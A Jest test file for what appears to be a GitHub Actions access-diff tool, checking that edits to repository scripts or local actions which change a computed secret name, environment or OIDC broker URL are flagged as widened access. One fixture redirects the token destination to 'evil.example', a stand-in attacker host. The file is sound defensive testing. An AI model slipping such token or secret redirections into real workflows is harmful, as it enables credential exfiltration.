/**
 * Session 32 (w-rfaces): a secret name, an environment or a token destination computed from a step's
 * output is decided at run time by the code that step runs. Session 31 compared the workflow text and
 * the local actions' `action.yml`, but not the other files of the repository such a step runs: a
 * local JavaScript action's `index.js`, a Docker action's `Dockerfile` or entry point, a script a
 * `run:` calls (`./scripts/pick.sh >> "$GITHUB_OUTPUT"`), a script beside a composite action
 * (`$GITHUB_ACTION_PATH/pick.sh`). A pull request changing only that file moved the job to another
 * secret, environment or token destination while the diff said "No access changes" (every positive
 * case here failed at f6cb0ee). Now the repository's files are among those sources.
 */
import { describe, expect, it } from '@jest/globals';
import { diff, widenedSecret } from '../hostile-faces-s31/diff-trees.js';

const SW = 'stepwarden/stepwarden/actions/run@0123456789abcdef0123456789abcdef01234567';
const JS_ACTION = `name: pick\ndescription: x\noutputs:\n  v:\n    description: x\nruns:\n  using: node20\n  main: index.js\n`;
const DOCKER_ACTION = `name: pick\ndescription: x\noutputs:\n  v:\n    description: x\nruns:\n  using: docker\n  image: Dockerfile\n`;
const COMPOSITE_SCRIPT = `name: pick\ndescription: x\noutputs:\n  v:\n    description: x\n    value: \${{ steps.e.outputs.v }}\nruns:\n  using: composite\n  steps:\n    - id: e\n      run: '"$GITHUB_ACTION_PATH/pick.sh" >> "$GITHUB_OUTPUT"'\n      shell: bash\n`;
const js = (v: string) => `require('fs').appendFileSync(process.env.GITHUB_OUTPUT, 'v=${v}\\n');\n`;
const sh = (v: string) => `#!/bin/sh\necho "v=${v}"\n`;

/** Job `a` reads a secret named by step `s`'s output; `s` runs `uses`/`run`. */
const secretJob = (step: string) =>
  `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    permissions: { contents: read }\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n      - id: s\n${step}      - run: ./deploy.sh "\${{ secrets[steps.s.outputs.v] }}"\n`;

describe('diff: a computed value read from code the repository holds (s32)', () => {
  it("a local JavaScript action's index.js changed alone: a widened secret row", async () => {
    const text = secretJob('        uses: ./actions/pick\n');
    const files = (v: string) => ({ 'actions/pick/action.yml': JS_ACTION, 'actions/pick/index.js': js(v) });
    expect(
      widenedSecret(await diff(text, text, { base: files('STAGING_KEY'), head: files('PROD_KEY') })),
    ).toHaveLength(1);
  });

  it("a local Docker action's entry point changed alone: a widened secret row", async () => {
    const text = secretJob('        uses: ./actions/pick\n');
    const files = (v: string) => ({
      'actions/pick/action.yml': DOCKER_ACTION,
      'actions/pick/Dockerfile': 'FROM alpine:3.20\nCOPY pick.sh /pick.sh\nENTRYPOINT ["/pick.sh"]\n',
      'actions/pick/pick.sh': `#!/bin/sh\necho "v=${v}" >> "$GITHUB_OUTPUT"\n`,
    });
    expect(
      widenedSecret(await diff(text, text, { base: files('STAGING_KEY'), head: files('PROD_KEY') })),
    ).toHaveLength(1);
  });

  it('a script a `run:` step calls changed alone: a widened secret row', async () => {
    const text = secretJob('        run: ./scripts/pick.sh >> "$GITHUB_OUTPUT"\n');
    expect(
      widenedSecret(
        await diff(text, text, {
          base: { 'scripts/pick.sh': sh('STAGING_KEY') },
          head: { 'scripts/pick.sh': sh('PROD_KEY') },
        }),
      ),
    ).toHaveLength(1);
  });

  it('a script beside a composite action ($GITHUB_ACTION_PATH) changed alone: a widened secret row', async () => {
    const text = secretJob('        uses: ./actions/pick\n');
    const files = (v: string) => ({
      'actions/pick/action.yml': COMPOSITE_SCRIPT,
      'actions/pick/pick.sh': sh(v),
    });
    expect(
      widenedSecret(await diff(text, text, { base: files('STAGING_KEY'), head: files('PROD_KEY') })),
    ).toHaveLength(1);
  });

  it("a needed job's script names the environment: a widened environment row", async () => {
    const text = `on: push\njobs:\n  setup:\n    runs-on: ubuntu-latest\n    permissions: { contents: read }\n    outputs:\n      v: \${{ steps.s.outputs.v }}\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n      - id: s\n        run: ./scripts/pick.sh >> "$GITHUB_OUTPUT"\n  a:\n    needs: setup\n    runs-on: ubuntu-latest\n    permissions: { contents: read }\n    environment: \${{ needs.setup.outputs.v }}\n    steps:\n      - run: ./deploy.sh\n`;
    expect(
      await diff(text, text, {
        base: { 'scripts/pick.sh': sh('staging') },
        head: { 'scripts/pick.sh': sh('production') },
      }),
    ).toContainEqual(expect.objectContaining({ job: 'a', kind: 'environment', effect: 'widened' }));
  });

  it("a broker-url from a step's script: a widened token destination row", async () => {
    const text = `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    permissions: { contents: read, id-token: write }\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n      - id: s\n        run: ./scripts/pick.sh >> "$GITHUB_OUTPUT"\n      - uses: ${SW}\n        with:\n          audience: https://deploy.example\n          run: make deploy\n          broker-url: \${{ steps.s.outputs.v }}\n          oidc-audience: https://broker.corp.example\n`;
    const changes = await diff(text, text, {
      base: { 'scripts/pick.sh': sh('https://broker.corp.example') },
      head: { 'scripts/pick.sh': sh('https://evil.example') },
    });
    expect(changes.filter((c) => c.subject.startsWith('OIDC token') && c.effect === 'widened')).toHaveLength(
      1,
    );
  });

  it('negatives: the same files; a changed script in a job whose values read no step output', async () => {
    const reads = secretJob('        run: ./scripts/pick.sh >> "$GITHUB_OUTPUT"\n');
    const same = { 'scripts/pick.sh': sh('K'), 'README.md': 'x\n' };
    expect(await diff(reads, reads, { base: same, head: same })).toEqual([]);
    const matrix = `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    permissions: { contents: read }\n    strategy: { matrix: { k: [STAGING_KEY] } }\n    steps:\n      - id: s\n        run: ./scripts/pick.sh >> "$GITHUB_OUTPUT"\n      - run: ./deploy.sh "\${{ secrets[matrix.k] }}"\n`;
    expect(
      await diff(matrix, matrix, {
        base: { 'scripts/pick.sh': sh('A') },
        head: { 'scripts/pick.sh': sh('B') },
      }),
    ).toEqual([]);
  });
});
